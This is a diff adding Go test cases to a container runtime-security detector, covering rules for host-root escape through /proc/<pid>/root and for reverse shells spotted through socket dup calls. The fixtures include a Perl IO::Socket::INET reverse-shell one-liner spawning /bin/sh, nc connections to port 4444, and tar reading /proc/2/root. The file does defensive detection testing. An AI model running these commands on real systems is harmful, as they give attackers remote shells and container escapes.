@@ -168,6 +168,20 @@ func TestRules(t *testing.T) {
 			return evs(openEv(proc(50, "/usr/bin/python3").ns(hostPIDNS), c, "/proc/4242/environ", "", rd, 3),
 				openEv(proc(50, "/usr/bin/python3").ns(hostPIDNS), c, "/proc/4242/mem", "", rd, 4))
 		}, false, 0},
+		{"variant V07: tar -C /proc/2/root opens the host root as the base of relative opens", "ESC-005", func() []*event.Event {
+			return evs(openEv(proc(32, "/usr/bin/tar", "tar", "-C", "/proc/2/root", "-cf", "-", "etc/hostname").ns(hostPIDNS), side("v07"), "/", "/proc/2/root", rd|event.ODirectry, 3))
+		}, true, event.SevHigh},
+		{"fchdir base /proc/<pid>/cwd of a host process", "ESC-005", func() []*event.Event {
+			return evs(openEv(proc(32, "/usr/bin/python3").ns(hostPIDNS), side("x"), "/", "/proc/2/cwd", rd|event.ODirectry, 3))
+		}, true, event.SevHigh},
+		{"/proc/self/root directory", "ESC-005", func() []*event.Event {
+			return evs(openEv(proc(32, "/usr/bin/find").ns(hostPIDNS), side("x"), "/", "/proc/self/root", rd|event.ODirectry, 3))
+		}, false, 0},
+		{"/proc/<pid>/root directory of the container's own process", "ESC-005", func() []*event.Event {
+			c := side("x")
+			return evs(execEv(proc(77, "/bin/sleep").ns(hostPIDNS), c),
+				openEv(proc(78, "/usr/bin/tar").ns(hostPIDNS), c, "/", "/proc/77/root", rd|event.ODirectry, 3))
+		}, false, 0},
 		{"/proc/self/root", "ESC-005", func() []*event.Event {
 			return evs(openEv(proc(31, "/bin/cat").ns(hostPIDNS), side("x"), "/etc/passwd", "/proc/self/root/etc/passwd", rd, 3))
 		}, false, 0},
@@ -639,6 +653,34 @@ func TestRules(t *testing.T) {
 		{"B3 probe command", "C2-001", func() []*event.Event {
 			return evs(execEv(proc(163, "/bin/sh", "sh", "-c", "curl -fsS -m 2 http://127.0.0.1:8000/health > /dev/null"), infer("b1")))
 		}, false, 0},
+		{"variant V11: script connects fd 3 and dups it onto stdin", "C2-001", func() []*event.Event {
+			c := infer("v11")
+			py := proc(166, "/usr/bin/python3.11", "python3", "/tmp/h/v11_rs.py")
+			return evs(connEv(py, c, "10.200.2.2", 4444, event.ClassExternal),
+				sysEv(py, c, event.Syscall{Name: "dup", Fd: 3, Fd2: 0, FdIsSocket: true}))
+		}, true, event.SevCritical},
+		{"nc -e child dups the socket its fork parent connected", "C2-001", func() []*event.Event {
+			c := side("x")
+			return evs(connEv(proc(167, "/usr/bin/nc.openbsd", "nc", "10.200.2.2", "4444"), c, "10.200.2.2", 4444, event.ClassExternal),
+				sysEv(proc(168, "/usr/bin/nc.openbsd").anc(an(167, "/usr/bin/nc.openbsd")), c, event.Syscall{Name: "dup", Fd: 3, Fd2: 1, FdIsSocket: true}))
+		}, true, event.SevHigh},
+		{"variant V19: scp dups its ssh socketpair onto stdin (no connect): low", "C2-001", func() []*event.Event {
+			return evs(sysEv(proc(169, "/usr/bin/scp"), infer("v19"), event.Syscall{Name: "dup", Fd: 3, Fd2: 0, FdIsSocket: true}))
+		}, true, event.SevLow},
+		{"dup of another fd than the connected one: low", "C2-001", func() []*event.Event {
+			c := infer("x")
+			p := proc(169, "/usr/bin/python3")
+			return evs(connEv(p, c, "10.200.2.2", 443, event.ClassExternal),
+				sysEv(p, c, event.Syscall{Name: "dup", Fd: 5, Fd2: 0, FdIsSocket: true}))
+		}, true, event.SevLow},
+		{"variant V10: perl IO::Socket::UNIX client of a runtime socket", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(170, "/usr/bin/perl", "perl", "-MIO::Socket::UNIX", "-e",
+				`my $s = IO::Socket::UNIX->new(Peer => "/run/simrt/v10/containerd.sock") or die "connect: $!";`), infer("v10")))
+		}, false, 0},
+		{"perl IO::Socket::INET reverse shell", "C2-001", func() []*event.Event {
+			return evs(execEv(proc(170, "/usr/bin/perl", "perl", "-MIO::Socket::INET", "-e",
+				`$s=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444");open(STDIN,">&",$s);exec("/bin/sh -i")`), side("x")))
+		}, true, event.SevHigh},
 		{"pipe dup'd onto stdout", "C2-001", func() []*event.Event {
 			return evs(sysEv(proc(164, "/bin/sh"), infer("x"), event.Syscall{Name: "dup", Fd: 4, Fd2: 1}))
 		}, false, 0},
